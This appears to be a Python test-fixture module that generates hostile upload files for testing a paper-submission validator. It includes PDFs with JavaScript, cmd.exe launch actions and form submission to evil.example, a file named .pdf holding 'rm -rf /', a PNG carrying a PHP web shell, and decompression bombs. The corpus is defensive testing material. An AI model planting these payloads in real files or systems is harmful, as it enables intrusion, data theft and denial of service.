"""Files that nobody should be able to hand in as a paper, each with the code of its refusal. All of them made here.

Every trick of PDF comes in three forms: written where it acts, as an object of its own, and inside an object stream.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import pikepdf
from PIL import Image

HEAD = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
CATALOG, PAGES, PAGE, CONTENT, EXTRA, MORE = 1, 2, 3, 4, 9, 10


@dataclass(frozen=True)
class Hostile:
    """A file, and the code with which it is refused."""

    name: str
    code: str
    data: bytes


# -- A PDF, written by hand: a library would refuse to write most of these ------------------------------------------


def objects(catalog: bytes = b"", page: bytes = b"", **more: bytes) -> dict[int, bytes]:
    """A PDF of one page; `o9=` adds the object number 9."""
    return {
        CATALOG: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        PAGES: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        PAGE: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 99 99] /Resources << >> /Contents 4 0 R %s >>" % page,
        CONTENT: stream(b"0 0 m"),
        **{int(name[1:]): value for name, value in more.items()},
    }


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< %s /Length %d >>\nstream\n%s\nendstream" % (entries, len(data), data)


def written(parts: dict[int, bytes], *, head: bytes = HEAD, trailer: bytes = b"", tail: bytes = b"") -> bytes:
    """With a plain table of objects."""
    out, places = bytearray(head), {}
    for number, body in sorted(parts.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    size, table = max(parts) + 1, len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 00000 f \n"
    out += b"trailer\n<< /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (size, trailer, table)
    return bytes(out) + tail


def packed(parts: dict[int, bytes]) -> bytes:
    """With all objects but the streams inside a compressed object stream."""
    inner = {number: body for number, body in parts.items() if b"endstream" not in body}
    bodies, index = b"", b""
    for number, body in inner.items():
        index += b"%d %d " % (number, len(bodies))
        bodies += body + b" "
    entries = b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode" % (len(inner), len(index))
    outer = {number: body for number, body in parts.items() if number not in inner}
    holder, table = max(parts) + 1, max(parts) + 2
    outer[holder] = stream(zlib.compress(index + bodies), entries)
    out, places = bytearray(HEAD), {}
    for number, body in sorted(outer.items()):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    places[table] = len(out)
    order = {number: place for place, number in enumerate(inner)}
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    for number in range(1, table + 1):
        if number in inner:
            rows.append(struct.pack(">BIH", 2, holder, order[number]))
        else:
            rows.append(struct.pack(">BIH", number in places, places.get(number, 0), 0))
    entries = b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter /FlateDecode" % (table + 1)
    out += b"%d 0 obj\n%s\nendobj\n" % (table, stream(zlib.compress(b"".join(rows)), entries))
    return bytes(out) + b"startxref\n%d\n%%%%EOF\n" % places[table]


# -- What a PDF may try to do --------------------------------------------------------------------------------------

ACTIVE, ATTACHED = "file_active", "file_attachments"
JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
JUMP = b"<< /S /GoTo /D [3 0 R /Fit] >>"
LINK = b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A @ >>]"
ANNOTATION = b"/Annots [@]"
FORM = b"/AcroForm << /Fields [@] >>"
OPENING = b"/OpenAction @"
FILE = b"<< /Type /Filespec /F (x.exe) /UF (x.exe) /EF << /F 10 0 R >> >>"

# name: (code, entry of the catalog, entry of the page; @ stands for the third, which also comes as its own object)
TRICKS: dict[str, tuple[str, bytes, bytes, bytes]] = {
    "script at opening": (ACTIVE, OPENING, b"", JS),
    "script in the name tree": (ACTIVE, b"/Names << /JavaScript @ >>", b"", b"<< /Names [(a) " + JS + b"] >>"),
    "script deep in the name tree": (
        ACTIVE,
        b"/Names << /Other << /Kids [ << /Kids [ << /Names [(a) @] >> ] >> ] >> >>",
        b"",
        JS,
    ),
    "script behind a link": (ACTIVE, b"", LINK, JS),
    "script of a page": (ACTIVE, b"", b"/AA << /O @ >>", JS),
    "any action of a page by itself": (ACTIVE, b"", b"/AA << /O @ >>", JUMP),
    "any action of the document by itself": (ACTIVE, b"/AA @", b"", b"<< /WC " + JUMP + b" >>"),
    "script after a jump": (ACTIVE, OPENING, b"", JUMP.replace(b">>", b"/Next " + JS + b" >>")),
    "script in a list of next actions": (ACTIVE, OPENING, b"", JUMP.replace(b">>", b"/Next [" + JS + b"] >>")),
    "script of a field": (ACTIVE, FORM, b"", b"<< /FT /Tx /T (a) /AA << /K " + JS + b" >> >>"),
    "script of a button": (ACTIVE, FORM, b"", b"<< /FT /Btn /T (a) /A " + JS + b" >>"),
    "script of an outline": (ACTIVE, b"/Outlines << /First << /Title (a) /A @ >> >>", b"", JS),
    "script with escaped letters": (ACTIVE, OPENING, b"", b"<< /S /J#61va#53cript /#4a#53 (x) >>"),
    "script under a name with escapes": (ACTIVE, b"/Odd @", b"", b"<< /J#53 (x) >>"),
    "script whose kind is an object": (ACTIVE, b"", LINK, b"<< /S 11 0 R /D (x) >>"),
    "script in an appearance of XFA": (ACTIVE, b"/AcroForm << /XFA @ /Fields [] >>", b"", b"[(template) (<xdp/>)]"),
    "program": (ACTIVE, b"", LINK, b"<< /S /Launch /F (cmd.exe) >>"),
    "program at opening": (ACTIVE, OPENING, b"", b"<< /S /Launch /Win << /F (cmd.exe) >> >>"),
    "form sent away": (ACTIVE, b"", LINK, b"<< /S /SubmitForm /F (https://evil.example/) >>"),
    "data fetched": (ACTIVE, b"", LINK, b"<< /S /ImportData /F (x.fdf) >>"),
    "link at opening": (ACTIVE, OPENING, b"", b"<< /S /URI /URI (https://evil.example/) >>"),
    "printing at opening": (ACTIVE, OPENING, b"", b"<< /S /Named /N /Print >>"),
    "film": (ACTIVE, b"", LINK, b"<< /S /Rendition /OP 0 >>"),
    "sound": (ACTIVE, b"", LINK, b"<< /S /Sound >>"),
    "old film": (ACTIVE, b"", ANNOTATION, b"<< /Type /Annot /Subtype /Movie /Rect [0 0 9 9] >>"),
    "screen": (ACTIVE, b"", ANNOTATION, b"<< /Type /Annot /Subtype /Screen /Rect [0 0 9 9] >>"),
    "hidden fields": (ACTIVE, b"", LINK, b"<< /S /Hide /T (a) >>"),
    "an action that nobody knows": (ACTIVE, b"", LINK, b"<< /S /Vendor.Run /X (x) >>"),
    "script behind an address": (ACTIVE, b"", LINK, b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"),
    "script behind a broken address": (ACTIVE, b"", LINK, b"<< /S /URI /URI ( Java\\nScript:alert\\(1\\)) >>"),
    "file behind an address": (ACTIVE, b"", LINK, b"<< /S /URI /URI (file:///etc/passwd) >>"),
    "share behind an address": (ACTIVE, b"", LINK, b"<< /S /URI /URI (\\\\\\\\evil\\\\share) >>"),
    "base of all addresses": (ACTIVE, b"/URI @", b"", b"<< /Base (javascript:) >>"),
    "other document": (ATTACHED, b"", LINK, b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>"),
    "other document inside": (ATTACHED, b"", LINK, b"<< /S /GoToE /D [0 /Fit] >>"),
    "file in the name tree": (ATTACHED, b"/Names << /EmbeddedFiles @ >>", b"", b"<< /Names [(a) " + FILE + b"] >>"),
    "file pinned to the page": (
        ATTACHED,
        b"",
        ANNOTATION,
        b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS " + FILE + b" >>",
    ),
    "associated file": (ATTACHED, b"/AF [@]", b"", FILE),
    "portfolio": (ATTACHED, b"/Collection @", b"", b"<< /View /D >>"),
    "rich media": (ATTACHED, b"", ANNOTATION, b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>"),
    "space in three dimensions": (ATTACHED, b"", ANNOTATION, b"<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] >>"),
    "file on a share": (ATTACHED, b"", b"/Ref @", b"<< /F (\\\\\\\\evil\\\\share\\\\x.pdf) /Page 0 >>"),
    "file by a name that is an object": (ATTACHED, b"", b"/Ref @", b"<< /F 12 0 R /Page 0 >>"),
}
HELPERS = {"o10": stream(b"MZ", b"/Type /Example"), "o11": b"/JavaScript", "o12": b"(x.pdf)"}


def tricks() -> Iterator[Hostile]:
    """Each trick in its three forms."""
    for name, (code, catalog, page, value) in TRICKS.items():
        for form, third in (("inline", value), ("object", b"9 0 R")):
            parts = objects(catalog.replace(b"@", third), page.replace(b"@", third), **HELPERS, o9=value)
            if form == "inline":
                del parts[EXTRA]
            if b"11 0 R" not in value:
                del parts[11]
            if b"12 0 R" not in value:
                del parts[12]
            yield Hostile(f"{name}, {form}", code, written(parts))
        yield Hostile(f"{name}, packed", code, packed(parts))


def streams() -> Iterator[Hostile]:
    """Tricks that only a stream can play, and those that no page refers to."""
    script = stream(b"app.alert(1)")
    yield Hostile(
        "script as a stream", ACTIVE, written(objects(b"/OpenAction << /S /JavaScript /JS 9 0 R >>", o9=script))
    )
    yield Hostile("XFA as a stream", ACTIVE, written(objects(b"/AcroForm << /XFA 9 0 R >>", o9=script)))
    yield Hostile("embedded file", ATTACHED, written(objects(o9=stream(b"MZ", b"/Type /EmbeddedFile"))))
    yield Hostile("picture kept elsewhere", ATTACHED, written(objects(o9=stream(b"", b"/F (\\\\\\\\evil\\\\x)"))))
    postscript = stream(b"quit", b"/Type /XObject /Subtype /PS")
    yield Hostile("program for the printer", ACTIVE, written(objects(o9=postscript)))
    yield Hostile("script that nothing refers to", ACTIVE, written(objects(o9=JS)))
    yield Hostile("script that nothing refers to, packed", ACTIVE, packed(objects(o9=JS)))
    hidden = objects(o9=b"<< /S 11 0 R >>", o11=b"/JavaScript")
    yield Hostile("script by a kind that is an object", ACTIVE, written(hidden))
    yield Hostile("script by a kind that is an object, packed", ACTIVE, packed(hidden))
    yield Hostile("script in the trailer", ACTIVE, written(objects(), trailer=b"/Odd [[[ << /JS (x) >> ]]]"))
    yield Hostile("script in a later revision", ACTIVE, revised(written(objects()), b"<< /S /JavaScript /JS (x) >>"))


def revised(data: bytes, body: bytes) -> bytes:
    """The file with one more object, appended as an editor does it."""
    start = int(data.rpartition(b"startxref")[2].split()[0])
    place = len(data)
    data += b"9 0 obj\n%s\nendobj\n" % body
    table = b"xref\n9 1\n%010d 00000 n \ntrailer\n<< /Size 10 /Root 1 0 R /Prev %d >>\n" % (place, start)
    return data + table + b"startxref\n%d\n%%%%EOF\n" % (place + len(b"9 0 obj\n%s\nendobj\n" % body))


# -- Names that lie ------------------------------------------------------------------------------------------------


def archive(**files: bytes) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as inside:
        for name, data in files.items():
            inside.writestr(name, data)
    return kept.getvalue()


def liars() -> Iterator[Hostile]:
    """Other formats under the name of a PDF, and PDF that does not begin at the first byte."""
    page = written(objects())
    others = {
        "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        "html": b"<!doctype html><script>alert(1)</script>",
        "exe": b"MZ\x90\x00" + bytes(200),
        "elf": b"\x7fELF" + bytes(200),
        "docx": archive(**{"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}),
        "gif": b"GIF89a" + bytes(50),
        "webp": b"RIFF\x24\0\0\0WEBPVP8 ",
        "tiff": b"II*\0" + bytes(50),
        "rtf": b"{\\rtf1 \\object}",
        "postscript": b"%!PS-Adobe-3.0\nquit\n%%EOF\n",
        "script": b"#!/bin/sh\nrm -rf /\n",
        "text": "اتفاقية".encode(),
        "one byte": b"%",
        "empty line first": b"\n" + page,
        "mark of byte order first": b"\xef\xbb\xbf" + page,
        "page of HTML first": b"<html>" + b" " * 900 + page,
        "program first": b"MZ" + bytes(500) + page,
    }
    for name, data in others.items():
        yield Hostile(f"{name} named .pdf", "file_type", data)


# -- Two files in one ----------------------------------------------------------------------------------------------


def picture(kind: str, size: tuple[int, int] = (60, 40), **options: object) -> bytes:
    kept = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB").save(kept, kind, **options)
    return kept.getvalue()


def doubles() -> Iterator[Hostile]:
    """Files that another program would read as something else."""
    page, jpeg, png = written(objects()), picture("JPEG"), picture("PNG")
    jar, html = archive(evil=b"x" * 50), b"<script>alert(1)</script>"
    end = page.rpartition(b"startxref")
    again = b"\nstartxref" + end[2]
    made = {
        "PDF and archive": page + jar,
        "PDF, archive and a second end": page + jar + again,
        "PDF and HTML": page + html,
        "PDF and program": page + b"MZ" + bytes(300),
        "PDF and JPEG": page + jpeg,
        "PDF and a long padding": page + b"\0" * 5000,
        "HTML before the first object": written(objects(), head=HEAD + html + b"\n"),
        "HTML beside the header": written(objects(), head=b"%PDF-1.7" + html + b"\n"),
        "a very long comment": written(objects(), head=HEAD + b"%" + b"x" * 5000 + b"\n"),
        "archive in a stream": written(objects(o9=stream(jar))),
        "PDF that is a tar": written(objects(), head=HEAD + b"%" + b" " * (257 - len(HEAD) - 1) + b"ustar\n"),
        "PDF that is a DICOM": written(objects(), head=HEAD + b"%" + b" " * (128 - len(HEAD) - 1) + b"DICM\n"),
        "PDF that is a disk": written_over(written(objects(o9=stream(bytes(40_000)))), 32769, b"CD001"),
        "JPEG and archive": jpeg + jar,
        "JPEG and HTML": jpeg + html,
        "JPEG and JPEG": jpeg + jpeg,
        "JPEG and a long padding": jpeg + b"\0" * 5000,
        "archive in a comment of a JPEG": jpeg[:2] + b"\xff\xfe" + struct.pack(">H", len(jar) + 2) + jar + jpeg[2:],
        "PNG and archive": png + jar,
        "PNG and PHP": png + b"<?php system($_GET['x']);",
        "PNG and PDF": png + page,
    }
    for name, data in made.items():
        yield Hostile(name, "file_foreign", data)


def written_over(data: bytes, place: int, mark: bytes) -> bytes:
    return data[:place] + mark + data[place + len(mark) :]


# -- Locked, damaged, endless --------------------------------------------------------------------------------------


def locked() -> Iterator[Hostile]:
    """Files that cannot be looked into, or that say so."""
    for name, options in {
        "a password": {"user": "secret", "owner": "other"},
        "restrictions": {"user": "", "owner": "other"},
        "an old cipher": {"user": "", "owner": "other", "R": 3, "aes": False, "metadata": False},
        "a password and an old cipher": {"user": "secret", "owner": "other", "R": 4, "aes": True, "metadata": True},
    }.items():
        kept = io.BytesIO()
        document = pikepdf.new()
        document.add_blank_page()
        document.save(kept, encryption=pikepdf.Encryption(**options))
        yield Hostile(f"PDF with {name}", "file_encrypted", kept.getvalue())
    for_people = b"/Encrypt << /Filter /Adobe.PubSec /V 4 >> /ID [(a) (b)]"
    yield Hostile("PDF for certain people", "file_encrypted", written(objects(), trailer=for_people))


def damaged() -> Iterator[Hostile]:
    """Files that end early or contradict themselves."""
    page, jpeg, png = written(objects()), picture("JPEG", (400, 300)), picture("PNG", (400, 300))
    loop = objects()
    loop[PAGES] = b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"
    made = {
        "half a PDF": page[: len(page) // 2],
        "PDF without its end": page[:-6],
        "PDF without its table": page.replace(b"xref\n0", b"xxxx\n0"),
        "PDF with a wrong address": page.replace(b"startxref\n", b"startxref\n1"),
        "PDF without a catalog": page.replace(b"/Root 1 0 R", b"/Root 8 0 R"),
        "PDF with an entry twice": written(objects(b"/A << /S /URI /S /JavaScript /S /URI >>")),
        "PDF that says less than it holds": written(objects(b"/Odd << /A ) >>")),
        "PDF with an escaped zero": written(objects(b"/A#00A << >>")),
        "PDF with an object in pieces": written(objects(o9=b"<< /A /B")),
        "PDF whose pages run in a circle": written(loop),
        "PDF in too many layers": written(objects(b"/Odd " + b"[" * 2000 + b"]" * 2000)),
        "PDF with 600 ends": page + b"9 0 obj\n1\nendobj\n%%EOF\n" * 600 + page[page.rindex(b"startxref") :],
        "half a JPEG": jpeg[: len(jpeg) // 2],
        "JPEG without its end": jpeg[:-2],
        "JPEG that only begins": jpeg[:3],
        "JPEG without a picture": b"\xff\xd8\xff\xd9",
        "JPEG cut in its first mark": jpeg[:21],
        "half a PNG": png[: len(png) // 2],
        "PNG without its end": png[:-12],
        "PNG without a picture": png[:33] + png[-12:],
        "PNG with a wrong sum": png[:20] + b"\xff" + png[21:],
        "PNG with too little in it": chunks((b"IHDR", header(400, 300)), (b"IDAT", zlib.compress(b"\0" * 100))),
    }
    for name, data in made.items():
        yield Hostile(name, "file_damaged", data)
    none = objects()
    none[PAGES] = b"<< /Type /Pages /Kids [] /Count 0 >>"
    yield Hostile("PDF without a page", "file_pages", written(none))
    many = objects()
    numbers = range(20, 20 + 1001)
    many[PAGES] = b"<< /Type /Pages /Kids [%s] /Count 1001 >>" % b" ".join(b"%d 0 R" % number for number in numbers)
    many |= dict.fromkeys(numbers, many[PAGE])
    yield Hostile("PDF with too many pages", "file_pages", written(many))


def header(width: int, height: int) -> bytes:
    return struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)


def chunks(*parts: tuple[bytes, bytes]) -> bytes:
    """A PNG of these chunks."""
    out = b"\x89PNG\r\n\x1a\n"
    for name, data in (*parts, (b"IEND", b"")):
        out += struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
    return out


def blown(megabytes: int) -> bytes:
    """That many million zeros in a thousandth of the room: one packed block again and again."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = bytes(2**20)
    block = packer.compress(zeros) + packer.flush(zlib.Z_FULL_FLUSH)
    total = 1
    for _ in range(megabytes):
        total = zlib.adler32(zeros, total)
    return b"\x78\xda" + block * megabytes + b"\x03\x00" + struct.pack(">I", total)


def bombs() -> Iterator[Hostile]:
    """Small files that want much time or memory."""
    flat = io.BytesIO()
    Image.new("1", (7000, 6000)).save(flat, "PNG")
    yield Hostile("PNG of 42 million pixels", "file_pixels", flat.getvalue())
    vast = chunks((b"IHDR", header(200_000, 200_000)), (b"IDAT", zlib.compress(bytes(100))))
    yield Hostile("PNG that claims 40 thousand million pixels", "file_pixels", vast)
    jpeg = picture("JPEG")
    frame = jpeg.index(b"\xff\xc0") + 5
    vast = jpeg[:frame] + struct.pack(">HH", 65000, 65000) + jpeg[frame + 4 :]
    yield Hostile("JPEG that claims 4 thousand million pixels", "file_pixels", vast)
    small = (b"IHDR", header(1, 1)), (b"IDAT", zlib.compress(b"\0\0\0\0"))
    text = small[0], (b"zTXt", b"a\0\0" + blown(400)), small[1]
    yield Hostile("PNG with a text that swells", "file_damaged", chunks(*text))
    plain = io.BytesIO()
    Image.new("L", (6000, 5900)).save(plain, "JPEG", progressive=True)
    scans = plain.getvalue()[:-2]
    last = scans[scans.rindex(b"\xff\xda") :]
    again = last * (15 * 2**20 // len(last))
    yield Hostile("JPEG of a thousand passes", "file_heavy", scans + again + b"\xff\xd9")
    swelling = stream(blown(600), b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    yield Hostile("PDF with objects that swell", "file_damaged", packed_around(swelling))
    table = stream(blown(600), b"/Type /XRef /Size 9 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode")
    body = HEAD + b"1 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, len(HEAD))
    yield Hostile("PDF with a table that swells", "file_damaged", body)
    yield Hostile(
        "PDF of 60 000 objects", "file_heavy", packed(objects(**{f"o{20 + n}": b"[]" for n in range(60_000)}))
    )
    row = b"[" + b"0 " * 20_000 + b"]"
    yield Hostile(
        "PDF of two million numbers", "file_heavy", packed(objects(**{f"o{20 + n}": row for n in range(100)}))
    )
    yield Hostile("PDF of one endless list", "file_damaged", packed(objects(b"/Odd [" + b"0 " * 2_000_000 + b"]")))
    yield Hostile("PDF of more than 20 MB", "file_size", written(objects(o9=stream(bytes(20 * 2**20)))))


def packed_around(holder: bytes) -> bytes:
    """A PDF whose catalog is said to lie in an object stream."""
    place = len(HEAD)
    body = HEAD + b"5 0 obj\n%s\nendobj\n" % holder
    rows = [struct.pack(">BIH", 0, 0, 65535)] + [struct.pack(">BIH", 2, 5, 0)] * 4
    rows += [struct.pack(">BIH", 1, place, 0), struct.pack(">BIH", 1, len(body), 0)]
    entries = b"/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R"
    return body + b"6 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream(b"".join(rows), entries), len(body))


def corpus() -> list[Hostile]:
    """All of them; the large ones are made anew for each run."""
    return [*tricks(), *streams(), *liars(), *doubles(), *locked(), *damaged(), *bombs()]


HOSTILE = {hostile.name: hostile for hostile in corpus()}

SAMPLE = (
    "script at opening, packed",
    "file pinned to the page, inline",
    "svg named .pdf",
    "docx named .pdf",
    "PDF and archive",
    "PNG and PHP",
    "PDF with a password",
    "half a JPEG",
    "PDF without a page",
    "PNG of 42 million pixels",
    "JPEG of a thousand passes",
    "PDF of more than 20 MB",
)
"""One of each code, to be handed in through the form."""
